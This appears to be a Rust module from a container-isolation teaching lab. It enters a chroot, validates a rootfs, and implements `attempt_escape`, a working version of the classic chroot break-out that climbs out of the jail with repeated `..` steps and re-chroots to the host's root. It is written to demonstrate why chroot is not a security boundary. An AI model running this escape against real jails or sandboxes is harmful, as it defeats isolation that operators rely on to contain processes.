//! `chroot(2)`: the oldest container idea, and why it is not a security boundary.
//!
//! `chroot` changes one thing: the directory a process's absolute paths start from. It does not
//! change the working directory, and it does not stop a privileged process from calling
//! `chroot` again. Those two facts make the classic escape (see [`attempt_escape`]): chroot into
//! a subdirectory while the working directory stays above it, walk `..` up past the old jail
//! (the kernel only stops `..` at the *current* root, which we are no longer under), and chroot
//! to where we ended up: the host's `/`.

use std::fmt;
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use nix::unistd;

use crate::error::{Error, Result, SysResultExt};

// ANCHOR: enter
/// Makes `rootfs` the process's `/` and moves into it (`man 2 chroot`).
///
/// The `chdir("/")` is not optional: chroot leaves the working directory where it was, outside
/// the new root, and a process whose cwd is outside its root can reach everything through `..`.
pub fn enter(rootfs: &Path) -> Result<()> {
    // LAB stage1/chroot BEGIN: chroot into the rootfs, then stand in it
    unistd::chroot(rootfs).sys("chroot", rootfs.display()).map_err(|error| {
        match error.errno() {
            Some(nix::errno::Errno::EPERM) => {
                error.hint("chroot needs CAP_SYS_CHROOT: run as root")
            }
            _ => error,
        }
    })?;
    unistd::chdir("/").sys("chdir", "/")?;
    Ok(())
    // LAB END
}
// ANCHOR_END: enter

/// Checks that `rootfs` can be a root: it exists, is a directory, and is not the host's `/`.
///
/// `/` is refused up front: a chroot to it changes nothing (stage 1), and as a container's
/// root (stage 2 on) it would be the host's own files and mounts that the container's mounts
/// and `pivot_root` start from, which fails late and says "shared mount" when it does.
pub fn check_rootfs(rootfs: &Path) -> Result<PathBuf> {
    let metadata = fs::metadata(rootfs).map_err(|error| {
        Error::Invalid(format!(
            "rootfs {} cannot be used: {}: build one with `rootfs-builder busybox {}`",
            rootfs.display(),
            lowercase_io(&error),
            rootfs.display()
        ))
    })?;
    if !metadata.is_dir() {
        return Err(Error::Invalid(format!(
            "rootfs {} is not a directory: pass the directory a rootfs was built into",
            rootfs.display()
        )));
    }
    let canonical = fs::canonicalize(rootfs).map_err(|error| {
        Error::Invalid(format!("rootfs {}: {}", rootfs.display(), lowercase_io(&error)))
    })?;
    if canonical == Path::new("/") {
        return Err(Error::Invalid(format!(
            "rootfs {}: the host's / cannot be a container's root: build one with \
             rootfs-builder (`rootfs-builder busybox rootfs`)",
            rootfs.display()
        )));
    }
    Ok(canonical)
}

fn lowercase_io(error: &std::io::Error) -> String {
    let text = error.to_string();
    let text = text.split(" (os error").next().unwrap_or(&text);
    let mut chars = text.chars();
    match chars.next() {
        Some(first) => first.to_lowercase().chain(chars).collect(),
        None => String::new(),
    }
}

/// Identity of a directory: the device and inode, which no chroot can fake.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DirId {
    /// `st_dev`
    pub dev: u64,
    /// `st_ino`
    pub ino: u64,
}

impl DirId {
    /// The identity of `path` as this process sees it.
    pub fn of(path: &Path) -> Result<DirId> {
        let metadata = fs::metadata(path).map_err(|e| {
            Error::Invalid(format!("stat {}: {}", path.display(), lowercase_io(&e)))
        })?;
        Ok(DirId { dev: metadata.dev(), ino: metadata.ino() })
    }
}

impl fmt::Display for DirId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "device {}:{}, inode {}", libc::major(self.dev), libc::minor(self.dev), self.ino)
    }
}

/// One step of the escape and what the kernel answered.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Step {
    /// The call as a reader would write it, e.g. `chroot("/tmp/.escape")`.
    pub call: String,
    /// `None` when it succeeded, the error otherwise.
    pub error: Option<String>,
    /// Why this step matters.
    pub why: &'static str,
}

/// Everything [`attempt_escape`] did; whether it *worked* is for the caller to judge by
/// looking at `/` afterwards (see [`DirId`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EscapeAttempt {
    /// The steps in order; the attempt stops at the first failure.
    pub steps: Vec<Step>,
}

impl EscapeAttempt {
    /// Did every step succeed?
    pub fn completed(&self) -> bool {
        self.steps.iter().all(|step| step.error.is_none())
    }
}

/// One line per step: `2. chroot("/tmp/.isolab-escape-7") ok: why it matters`, or the error.
impl fmt::Display for EscapeAttempt {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (number, step) in self.steps.iter().enumerate() {
            match &step.error {
                None => writeln!(f, "{}. {} ok: {}", number + 1, step.call, step.why)?,
                Some(error) => writeln!(f, "{}. {} FAILED: {error}", number + 1, step.call)?,
            }
        }
        Ok(())
    }
}

/// How many `..` steps the escape takes: more than any real path is deep.
pub const ESCAPE_DEPTH: usize = 64;

// ANCHOR: escape
/// The classic chroot break-out, run from *inside* a jail by a process that may call chroot.
///
/// `scratch` is a writable directory inside the jail (e.g. `/tmp`), where a fresh directory is
/// made for step 2. It is removed again at the end through a file descriptor opened on
/// `scratch` beforehand: a descriptor keeps pointing at the jail's directory wherever our root
/// has moved to.
pub fn attempt_escape(scratch: &Path) -> EscapeAttempt {
    let name = format!(".isolab-escape-{}", std::process::id());
    let hideout = scratch.join(&name);
    let scratch_dir = fs::File::open(scratch);
    let mut steps = Vec::new();
    let mut run = |call: String, why: &'static str, result: Result<()>| {
        let ok = result.is_ok();
        steps.push(Step { call, error: result.err().map(|e| e.to_string()), why });
        ok
    };

    let _ = run(
        format!("mkdir(\"{}\")", hideout.display()),
        "a directory inside the jail to chroot into",
        unistd::mkdir(&hideout, nix::sys::stat::Mode::from_bits_truncate(0o700))
            .sys("mkdir", hideout.display()),
    ) && run(
        format!("chroot(\"{}\")", hideout.display()),
        "the root moves down, but the working directory stays where it was: outside the root",
        unistd::chroot(&hideout).sys("chroot", hideout.display()).map_err(|error| {
            match error.errno() {
                Some(nix::errno::Errno::EPERM) => {
                    error.hint("only a process with CAP_SYS_CHROOT may call chroot: the jail holds")
                }
                _ => error,
            }
        }),
    ) && run(
        format!("chdir(\"..\") x {ESCAPE_DEPTH}"),
        "'..' stops only at the current root, and we are not under it any more",
        (0..ESCAPE_DEPTH).try_for_each(|_| unistd::chdir("..").sys("chdir", "..")),
    ) && run(
        "chroot(\".\")".to_string(),
        "make the directory we climbed to (the host's /) our root again",
        unistd::chroot(".").sys("chroot", "."),
    ) && run(
        "chdir(\"/\")".to_string(),
        "stand in the new root",
        unistd::chdir("/").sys("chdir", "/"),
    );

    if let Ok(scratch_dir) = scratch_dir {
        let _ = unistd::unlinkat(
            Some(std::os::fd::AsRawFd::as_raw_fd(&scratch_dir)),
            name.as_str(),
            unistd::UnlinkatFlags::RemoveDir,
        );
    }
    EscapeAttempt { steps }
}
// ANCHOR_END: escape

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rootfs_must_exist_and_be_a_directory() {
        let dir = tempfile::tempdir().unwrap();
        let missing = dir.path().join("missing");
        let error = check_rootfs(&missing).unwrap_err().to_string();
        assert!(error.contains("no such file or directory"), "{error}");
        assert!(error.contains("rootfs-builder busybox"), "{error}");

        let file = dir.path().join("file");
        fs::write(&file, "").unwrap();
        let error = check_rootfs(&file).unwrap_err().to_string();
        assert!(error.ends_with("is not a directory: pass the directory a rootfs was built into"));

        assert_eq!(check_rootfs(dir.path()).unwrap(), fs::canonicalize(dir.path()).unwrap());
    }

    #[test]
    fn the_hosts_root_is_refused_however_it_is_spelled() {
        for path in ["/", "/.", "/tmp/..", "//"] {
            let error = check_rootfs(Path::new(path)).unwrap_err().to_string();
            assert!(error.contains("the host's / cannot be a container's root"), "{error}");
        }
    }

    #[test]
    fn completed_means_every_step_succeeded() {
        let ok = Step { call: "a".into(), error: None, why: "" };
        let failed = Step { call: "b".into(), error: Some("EPERM".into()), why: "" };
        assert!(EscapeAttempt { steps: vec![ok.clone()] }.completed());
        assert!(!EscapeAttempt { steps: vec![ok, failed] }.completed());
    }
}
